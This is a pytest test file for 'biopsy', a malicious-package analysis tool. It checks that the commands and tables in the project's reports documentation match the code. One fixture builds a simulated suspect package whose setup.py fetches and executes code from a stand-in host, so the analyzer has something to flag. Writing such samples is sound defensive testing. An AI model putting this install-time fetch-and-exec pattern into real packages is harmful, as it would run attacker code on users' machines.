"""docs/reports.md: its commands work, in their order; its tables name what there is."""

import json
import re
import shlex
import subprocess
import tarfile
import tomllib
from pathlib import Path

import pytest
from click.testing import CliRunner
from test_report_store import ALL, record

from biopsy.cli.app import biopsy
from biopsy.reports import config, policy, sources

ROOT = Path(__file__).parents[2]
PAGE = (ROOT / "docs/reports.md").read_text(encoding="utf-8")
COMMANDS = [
    line.partition("  #")[0].strip()
    for block in re.findall(r"```sh\n(.*?)```", PAGE, re.DOTALL)
    for line in block.splitlines()
    if line.strip()
]
FOUND = 1  # the status of an analysis that found something malicious
ELSEWHERE = "https://repository.example/malicious-packages.git"
ORIGIN = "away/malicious-packages"


def _git(*words: str, at: Path) -> str:
    who = ("-c", "user.name=Ada", "-c", "user.email=ada@sim.example", "-c", "commit.gpgsign=false")
    done = subprocess.run(["git", *who, *words], cwd=at, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    return done.stdout


def _repository(place: Path) -> None:
    origins = [
        {"source": "one", "sha256": "1" * 64, "versions": ["1.0.0", "1.0.1"]},
        {"source": "two", "sha256": "2" * 64, "ranges": ALL},
    ]
    thing = record(
        "sim-thing", id="MAL-2026-3", versions=["1.0.0", "1.0.1"], ranges=ALL,
        database_specific={"malicious-packages-origins": origins},
    )  # fmt: skip
    files = {
        "malicious/npm/sim-thing/MAL-2026-3.json": thing,
        "malicious/npm/sim-new/MAL-0000-sim-new.json": record(
            "sim-new", versions=["2.0.0"], details="Steals."
        ),
        "withdrawn/npm/sim-fine/MAL-2026-2.json": record(
            "sim-fine", id="MAL-2026-2", versions=["1.0.0"], withdrawn="2026-11-02T00:00:00Z"
        ),
        "unmergable/npm/sim-waiting/MAL-0000-two-0123456789abcdef.json": record(
            "sim-waiting", versions=["1"]
        ),
    }
    for path, data in files.items():
        (place / "osv" / path).parent.mkdir(parents=True)
        (place / "osv" / path).write_bytes(data)
    _git("init", "--quiet", "--initial-branch", "main", at=place)
    _git("add", "--all", at=place)
    _git("commit", "--quiet", "--message", "Begin", at=place)


def _suspect(place: Path) -> None:
    """A release that runs what it fetches; its host is a reserved name."""
    setup = place / "sim-suspect-1.0/setup.py"
    setup.parent.mkdir()
    setup.write_text(
        "import urllib.request\nfrom setuptools import setup\n"
        "exec(urllib.request.urlopen('https://files.example/stage').read())\n"
        "setup(name='sim-suspect', version='1.0')\n"
    )
    (setup.parent / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: sim-suspect\nVersion: 1.0\n")
    (place / "dist").mkdir()
    with tarfile.open(place / "dist/sim-suspect-1.0.tar.gz", "w:gz") as archive:
        archive.add(setup.parent, "sim-suspect-1.0")


@pytest.fixture
def place(tmp_path: Path) -> Path:
    """A folder with what the page names."""
    (tmp_path / ORIGIN).mkdir(parents=True)
    _repository(tmp_path / ORIGIN)
    _suspect(tmp_path)
    (tmp_path / "findings").mkdir()
    for name, version in (("one", "1.0.0"), ("two", "1.2.0")):
        made = record("sim-lab", id=f"LAB-{name}", versions=[version], details="Steals.")
        (tmp_path / f"findings/{name}.json").write_bytes(made)
    seen = {"iocs": {"domains": ["files.example"]}}
    line = record("sim-seen", id="LAB-3", versions=["1"], details="Calls.", database_specific=seen)
    (tmp_path / "records.jsonl").write_bytes(line + b"\nnull\n")
    report = json.loads(record("sim-mine", versions=["1.0.0"], details="Steals.", summary="Steals"))
    (tmp_path / "report.json").write_text(json.dumps({"schema_version": "1.7.4", "id": "LAB-9", **report}))
    return tmp_path


def test_the_commands_of_the_page_work_in_their_order(place: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home = place / "home"
    monkeypatch.chdir(place)
    monkeypatch.setenv("BIOPSY_HOME", str(home))
    told = dict.fromkeys(("BATCH", "RUN_ID"), "")
    for command in COMMANDS:
        words = [told.get(word) or word for word in shlex.split(command.replace(ELSEWHERE, ORIGIN))]
        if words[0] == "git":
            _git(*words[1:], at=place)
            continue
        assert words[0] == "biopsy", command
        done = CliRunner().invoke(biopsy, words[1:])
        quarantined = "records.jsonl" in command  # one of its lines is none
        expected = FOUND if words[1] == "analyze" or quarantined else 0
        assert done.exit_code == expected, f"{command}\n{done.output}"
        if batch := re.search(r"biopsy reports undo ([0-9a-f]{12})", done.output):
            told["BATCH"] = batch[1]
        if run := re.search(r"biopsy show (\S+) --format", done.output):
            told["RUN_ID"] = run[1]
    states = CliRunner().invoke(biopsy, ["reports", "stats", "-f", "json"])
    assert {row["state"] for row in json.loads(states.stdout)} >= {"published", "withdrawn"}


def test_the_sources_of_the_page_are_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", "of nobody")
    (text,) = re.findall(r"```toml\n(.*?)```", PAGE, re.DOTALL)
    assert len(tomllib.loads(text)["sources"]) == 4
    (tmp_path / "reports.toml").write_text(text)
    assert len(config.load(tmp_path / "reports.toml", tmp_path)) == 4


@pytest.mark.parametrize("names", [
    sources.kinds(), policy.TRUST, json.loads((ROOT / "src/biopsy/schema/report-1.json").read_text())["properties"],
    [name for name in config._Source.__struct_fields__ if name not in {"kind", "place", "prefixes", "options"}],
], ids=["kinds", "trust", "parts", "keys"])  # fmt: skip
def test_the_tables_of_the_page_name_what_there_is(names: list[str]) -> None:
    rows = {
        word for line in PAGE.splitlines() if line.startswith("| `") for word in re.findall(r"`(\w+)`", line)
    }
    assert set(names) <= rows
